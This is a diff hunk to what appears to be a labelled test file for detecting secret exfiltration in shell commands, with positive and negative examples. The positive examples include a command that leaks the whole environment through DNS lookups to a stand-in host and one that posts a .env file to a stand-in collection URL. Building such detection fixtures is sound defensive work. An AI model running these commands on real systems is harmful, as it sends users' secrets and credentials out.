@@ -14,3 +14,9 @@ env | sort
 curl -s https://example.com/
 #@ pos the environment sent out as DNS names
 env | xxd -p -c 30 | while read -r c; do nslookup "$c.t.example.net"; done
+#@ pos a .env read into a variable and posted
+data=$(cat .env)
+curl -s -d "$data" https://collect.example/u
+#@ neg one key of a .env used to call an API
+API_KEY=$(grep '^API_KEY=' .env | cut -d= -f2)
+curl -fsS -H "Authorization: Bearer $API_KEY" https://api.example.com/v1/items
